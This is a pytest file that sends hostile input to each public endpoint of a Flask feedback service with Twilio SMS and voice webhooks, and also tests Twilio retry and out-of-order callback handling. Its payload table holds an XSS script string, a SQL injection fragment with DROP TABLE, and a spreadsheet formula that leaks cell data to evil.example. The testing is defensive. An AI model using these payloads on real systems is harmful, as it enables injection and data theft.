"""Hostile input on every public endpoint, table-driven (issue 8, "Bad input, tried systematically").

For each endpoint x payload: no 5xx; nothing half-stored (either no row, or one whole case with its message); what is
stored is stored verbatim; markup is escaped wherever it is shown; errors answer in the endpoint's own format (an
HTML page for people, JSON for machines). Also Twilio's retries and out-of-order delivery callbacks.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from typing import Any
from urllib.parse import quote_from_bytes, urlencode

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import delete, func, select
from werkzeug.test import EnvironBuilder, TestResponse
from werkzeug.wrappers import Request

from cfm.api.tokens import create_token
from cfm.extensions import db
from cfm.models import Case, Message, Reporter, SurveyResponse, User
from cfm.services.surveys import publish_survey
from channels.hotline import IVR_PLACEHOLDER
from tests.cfm.helpers import user
from tests.cfm.webhooks.support import ACCOUNT_SID, AUTH_TOKEN, OUR_NUMBER, PHONE, inbound, sign

TWO_MB = 2 * 1024 * 1024
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
PAYLOADS: dict[str, str] = {
    "nul": "before\x00after",
    "bidi": "\u202eeman ym si siht and the driver asked for money",
    "html": SCRIPT,
    "sql": "'; DROP TABLE \"case\"; -- and 1' OR '1'='1",
    "formula": '=HYPERLINK("http://evil.example/?d="&A1,"Click for your visa")',
}
INVALID_UTF8 = b"caf\xe9 \xff\xfe au lait"


@pytest.fixture
def world(app: Flask, programme: Any) -> dict[str, Any]:
    """The default programme with a survey, the Twilio account, an API token, no model (cases fail closed)."""
    app.config.update(TWILIO_ACCOUNT_SID=ACCOUNT_SID, TWILIO_AUTH_TOKEN=AUTH_TOKEN)
    app.extensions["cfm_model"] = None
    publish_survey(programme, "travel")
    _row, secret = create_token("kenya", "hostile partner")
    return {"token": secret}


# --- the endpoints ------------------------------------------------------------------------------------------------


def call(**extra: str) -> dict[str, str]:
    """Fields of a Twilio voice request."""
    return {"CallSid": "CA" + "7" * 32, "AccountSid": ACCOUNT_SID, "From": PHONE, "To": OUR_NUMBER, **extra}


def transcription() -> dict[str, str]:
    """Fields of a transcription callback (its text is the hostile value)."""
    sid = "RE" + "7" * 32
    return call(
        RecordingSid=sid,
        RecordingUrl=f"https://api.twilio.com/2010-04-01/Accounts/{ACCOUNT_SID}/Recordings/{sid}",
        RecordingDuration="12",
        TranscriptionSid="TR" + "7" * 32,
        TranscriptionStatus="completed",
    )


@dataclasses.dataclass(frozen=True)
class Endpoint:
    """One public endpoint: where the hostile value goes, what else is sent, how it answers."""

    path: str
    field: str
    base: Callable[[], dict[str, str]] = dict
    signed: bool = False  # a Twilio webhook: signed like Twilio signs
    api: bool = False  # JSON body with the bearer token
    stores_text: bool = False  # the value becomes a case's text when accepted
    voicemail: bool = False  # a recording is never lost: a case is kept (placeholder text) whatever the value

    @property
    def machine(self) -> bool:
        """Machines get JSON errors."""
        return self.signed or self.api


ENDPOINTS: dict[str, Endpoint] = {
    "feedback": Endpoint("/feedback", "text", stores_text=True),
    "feedback-ar": Endpoint("/ar/feedback", "text", stores_text=True),
    "programme": Endpoint("/p/kenya", "text", stores_text=True),
    "survey": Endpoint("/en/p/kenya/survey/travel", "q_comment", lambda: {"q_overall": "4"}, stores_text=True),
    "status": Endpoint("/status", "reference"),
    "sms": Endpoint("/sms/twilio", "Body", lambda: inbound("x", "SM" + "7" * 32), signed=True, stores_text=True),
    "sms-status": Endpoint(
        "/sms/twilio/status", "MessageStatus", lambda: {"MessageSid": "SM" + "6" * 32, "AccountSid": ACCOUNT_SID}, True
    ),
    "voice": Endpoint("/voice/twilio", "CallerName", call, signed=True),
    "voice-language": Endpoint("/voice/twilio/language", "Digits", call, signed=True),
    "voice-recording": Endpoint(
        "/voice/twilio/recording", "RecordingDuration", transcription, signed=True, voicemail=True
    ),
    "voice-transcription": Endpoint(
        "/voice/twilio/transcription", "TranscriptionText", transcription, signed=True, stores_text=True, voicemail=True
    ),
    "api": Endpoint("/api/v1/feedback", "text", api=True, stores_text=True),
    "console-login": Endpoint("/console/login", "email", lambda: {"password": "a password that is wrong"}),
}


def send(client: FlaskClient, endpoint: Endpoint, value: str, token: str) -> TestResponse:
    """Post the value in the endpoint's field, as that endpoint's real callers post."""
    if endpoint.api:
        return client.post(endpoint.path, json={endpoint.field: value}, headers={"Authorization": f"Bearer {token}"})
    form = {**endpoint.base(), endpoint.field: value}
    headers = {"X-Twilio-Signature": sign(f"http://localhost{endpoint.path}", form)} if endpoint.signed else {}
    return client.post(endpoint.path, data=form, headers=headers)


def send_raw(client: FlaskClient, endpoint: Endpoint, raw: bytes, token: str) -> TestResponse:
    """Post bytes that are not UTF-8 in the endpoint's field (signed over what the server will decode)."""
    if endpoint.api:
        body = b'{"' + endpoint.field.encode() + b'": "' + raw + b'"}'
        headers = {"Authorization": f"Bearer {token}"}
        return client.post(endpoint.path, data=body, content_type="application/json", headers=headers)
    others = {key: value for key, value in endpoint.base().items() if key != endpoint.field}
    body = (urlencode(others) + f"&{endpoint.field}=" + quote_from_bytes(raw)).lstrip("&")
    headers = {}
    if endpoint.signed:
        environ = EnvironBuilder(method="POST", data=body.encode(), content_type="application/x-www-form-urlencoded")
        decoded = dict(Request(environ.get_environ()).form)  # werkzeug keeps undecodable escapes as they came
        headers["X-Twilio-Signature"] = sign(f"http://localhost{endpoint.path}", decoded)
    return client.post(
        endpoint.path, data=body.encode(), content_type="application/x-www-form-urlencoded", headers=headers
    )


def rows() -> dict[str, int]:
    """Rows of the tables a submission writes to."""
    db.session.expire_all()
    tables = {"case": Case, "message": Message, "reporter": Reporter, "survey": SurveyResponse}
    return {name: db.session.scalar(select(func.count()).select_from(model)) or 0 for name, model in tables.items()}


def new_cases(before: dict[str, int]) -> list[Case]:
    """Cases added since `before`; each must be whole: exactly one message per new case."""
    after = rows()
    added = after["case"] - before["case"]
    assert added in (0, 1), after
    assert after["message"] - before["message"] == added, (before, after)
    if added == 0:
        assert after == before  # nothing half-stored: no reporter, no survey response without its case
    return list(db.session.scalars(select(Case).order_by(Case.id.desc()).limit(added))) if added else []


def assert_no_raw_markup(response: TestResponse) -> None:
    """Markup sent in is never echoed as markup."""
    body = response.get_data()
    assert b"<script>alert(1)" not in body and b"<img src=x" not in body


def assert_error_format(endpoint: Endpoint, response: TestResponse) -> None:
    """A refusal in the endpoint's own format."""
    if endpoint.machine:
        assert response.mimetype == "application/json", response.data[:200]
        assert response.get_json()["message"]
    else:
        assert response.mimetype == "text/html"
        assert b"<html" in response.data


# --- the table ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(ENDPOINTS))
def test_hostile_text_never_breaks_an_endpoint_nor_half_stores(
    client: FlaskClient, world: dict[str, Any], name: str
) -> None:
    endpoint = ENDPOINTS[name]
    for payload, value in PAYLOADS.items():
        before = rows()
        response = send(client, endpoint, value, world["token"])
        assert response.status_code < 500, (payload, response.data[:300])
        assert response.status_code != 403, payload  # the signature held: the hostile value itself was judged
        assert_no_raw_markup(response)
        if response.status_code >= 400:
            assert_error_format(endpoint, response)
        cases = new_cases(before)
        if endpoint.voicemail and (payload == "nul" or not endpoint.stores_text):
            # The voicemail is kept for listening; an unusable transcription or field is not stored as its text.
            assert len(cases) == 1 and cases[0].text == IVR_PLACEHOLDER, payload
        elif payload == "nul":
            assert cases == []  # refused, never stored with the NUL nor silently without it
        elif endpoint.stores_text:
            assert len(cases) == 1, (payload, response.data[:300])
            assert value in cases[0].text, payload  # verbatim (a survey's text holds the answer beside its question)
        else:
            assert cases == [], payload
        db.session.rollback()
        for table in (Message, SurveyResponse, Case, Reporter):  # the next payload starts from an empty database
            db.session.execute(delete(table))
        db.session.commit()


@pytest.mark.parametrize("name", list(ENDPOINTS))
def test_oversized_and_undecodable_bodies_are_refused_in_the_endpoints_format_and_nothing_is_stored(
    client: FlaskClient, world: dict[str, Any], name: str
) -> None:
    endpoint = ENDPOINTS[name]
    before = rows()
    response = send(client, endpoint, "x" * TWO_MB, world["token"])
    assert response.status_code == 413
    assert_error_format(endpoint, response)
    assert rows() == before

    response = send_raw(client, endpoint, INVALID_UTF8, world["token"])
    assert response.status_code < 500, response.data[:300]
    assert response.status_code != 403  # signed over what the server decodes: the bytes themselves were judged
    cases = new_cases(before)
    if not endpoint.signed:
        assert cases == []  # people's forms and the API refuse it rather than guess an encoding
        if endpoint.stores_text:
            assert 400 <= response.status_code < 500
            assert_error_format(endpoint, response)
    for case in cases:  # Twilio sends UTF-8; bytes mangled on the way stay as their %-escapes, never guessed
        assert "\x00" not in case.text
        assert "%FF%FE" in case.text or case.text == IVR_PLACEHOLDER


# --- what is stored is shown safely -------------------------------------------------------------------------------


def focal_point_page(app: Flask, reference: str) -> bytes:
    """The console case page as a focal point sees it (no model: the case waits in the restricted queue)."""
    focal = user("focal@example.org", "focal_point")
    focal.totp_secret = None
    db.session.commit()
    app.config["REQUIRE_2FA"] = False
    console = app.test_client()
    response = console.post("/console/login", data={"email": "focal@example.org", "password": "correct horse battery"})
    assert response.status_code == 302
    page = console.get(f"/console/cases/{reference}")
    assert page.status_code == 200
    return page.data


def test_markup_is_escaped_on_the_confirmation_status_and_console_pages(
    app: Flask, client: FlaskClient, world: dict[str, Any]
) -> None:
    response = client.post("/en/feedback", data={"text": SCRIPT})
    assert response.status_code == 200
    assert_no_raw_markup(response)
    case = db.session.scalars(select(Case)).one()
    assert case.text == SCRIPT
    status = client.post("/en/status", data={"reference": case.reference + SCRIPT})
    assert status.status_code < 500
    assert_no_raw_markup(status)
    page = focal_point_page(app, case.reference)
    assert b"&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert b"<script>alert(1)" not in page


def test_a_bidi_override_is_stored_verbatim_and_shown_isolated(
    app: Flask, client: FlaskClient, world: dict[str, Any]
) -> None:
    text = PAYLOADS["bidi"]
    assert client.post("/en/feedback", data={"text": text}).status_code == 200
    case = db.session.scalars(select(Case)).one()
    assert case.text == text
    page = focal_point_page(app, case.reference).decode()
    # dir="auto" isolates the text (HTML: an element with dir is a bidi isolate): the override cannot leak out.
    assert f'dir="auto">{text}</div>' in page


def test_a_formula_is_stored_as_text_and_neutralised_on_its_way_to_a_spreadsheet(
    client: FlaskClient, world: dict[str, Any]
) -> None:
    from cfm.services import exports

    formula = PAYLOADS["formula"]
    assert client.post("/en/feedback", data={"text": formula}).status_code == 200
    case = db.session.scalars(select(Case)).one()
    assert case.text == formula
    assert exports.csv_cell(case.text) == "'" + formula


def test_sql_fragments_are_only_text(client: FlaskClient, world: dict[str, Any]) -> None:
    sql = PAYLOADS["sql"]
    for path in ("/en/feedback", "/p/kenya"):
        assert client.post(path, data={"text": sql}).status_code == 200
    found = db.session.scalars(select(Case).where(Case.text_sealed.is_not(None))).all()
    assert [c.text for c in found] == [sql, sql]
    assert db.session.scalar(select(func.count()).select_from(User)) == 0  # the tables are all still there


# --- Twilio: retries, duplicates, out-of-order callbacks ----------------------------------------------------------


def _signed(client: FlaskClient, path: str, form: dict[str, str]) -> TestResponse:
    """A request signed like Twilio signs."""
    return client.post(path, data=form, headers={"X-Twilio-Signature": sign(f"http://localhost{path}", form)})


def test_twilio_retrying_a_message_many_times_makes_one_case_and_the_first_body_stands(
    client: FlaskClient, world: dict[str, Any]
) -> None:
    sid = "SM" + "5" * 32
    answers = [_signed(client, "/sms/twilio", inbound("Where do we collect the tickets?", sid)) for _ in range(3)]
    # A sender replaying the sid with other words cannot change what was received.
    answers.append(_signed(client, "/sms/twilio", inbound("REPLACED TEXT", sid)))
    assert {a.status_code for a in answers} == {200}
    assert len({a.get_data() for a in answers}) == 1
    assert rows()["case"] == 1 and rows()["message"] == 1
    assert db.session.scalars(select(Case)).one().text == "Where do we collect the tickets?"


# Twilio's order: queued -> sending -> sent -> delivered | undelivered | failed (-> read on WhatsApp). See the
# comment on cfm.services.outbound._RANK for the decision on final states arriving out of order.
ORDERINGS: list[tuple[list[str], str]] = [
    (["queued", "sending", "sent", "delivered", "read"], "read"),
    (["delivered", "sent"], "delivered"),  # a late `sent` never overwrites `delivered`
    (["delivered", "sending", "queued"], "delivered"),
    (["read", "delivered", "sent"], "read"),
    (["delivered", "failed"], "delivered"),  # a failure reported after a delivery receipt is stale
    (["delivered", "undelivered"], "delivered"),
    (["undelivered", "delivered"], "delivered"),  # a late delivery receipt wins over an earlier failure
    (["sent", "failed"], "failed"),
    (["failed", "sent"], "failed"),
    (["delivered", "delivered", "delivered"], "delivered"),  # Twilio's own retries of one callback
]


@pytest.mark.parametrize(("sequence", "final"), ORDERINGS, ids=["-".join(s) for s, _ in ORDERINGS])
def test_out_of_order_delivery_callbacks_never_go_back(
    client: FlaskClient, world: dict[str, Any], sequence: list[str], final: str
) -> None:
    assert _signed(client, "/sms/twilio", inbound("Is the bus at 8?", "SM" + "4" * 32)).status_code == 200
    case = db.session.scalars(select(Case)).one()
    sid = "SM" + "3" * 32
    reply = Message(case=case, direction="outbound", channel="sms", provider_id=sid, delivery_status="queued")
    reply.store_text("Yes, at 8.", sealed=True)
    db.session.add(reply)
    db.session.commit()
    for status in sequence:
        form = {"MessageSid": sid, "SmsSid": sid, "MessageStatus": status, "AccountSid": ACCOUNT_SID}
        assert _signed(client, "/sms/twilio/status", form).status_code == 204
    db.session.expire_all()
    assert db.session.get(Message, reply.id).delivery_status == final  # type: ignore[union-attr]
